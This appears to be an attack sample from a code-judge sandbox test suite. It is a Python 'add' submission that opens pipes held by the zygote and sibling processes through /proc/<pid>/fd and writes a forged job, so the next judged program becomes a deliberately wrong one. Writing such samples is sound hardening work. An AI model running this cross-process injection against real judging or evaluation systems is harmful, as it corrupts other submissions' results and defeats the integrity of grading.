# ruff: noqa
# later samples: reach the pipes the zygote (pid 1) and the waiting sibling hold, through /proc/<pid>/fd/N
# (a pipe reopens by its magic link), and write a forged job for the next sample ahead of the real one:
# its program then is ours (an add that is always wrong); the control after this attack must still pass
import json, os, struct

FORGED = {
    "src": "def add(a, b):\n    return a - b - 1\n",
    "entry_point": "add",
    "mode": "judge",
    "limits": {"cpu_rlimit": [5, 6], "memory_bytes": 1 << 30, "file_size_bytes": 1 << 20, "open_files": 64},
}


def _targets():
    """pid 1 (the zygote) and the siblings; without a pid namespace only our own zygote, never the host's."""
    if os.getppid() != 1:
        return [os.getppid()]
    return [1] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]


def add(a, b):
    frame = json.dumps(FORGED).encode()
    frame = struct.pack("<I", len(frame)) + frame
    for pid in _targets():
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for n in names:
            try:
                fd = os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(fd, frame)
            except OSError:
                pass
            os.close(fd)
    return 0
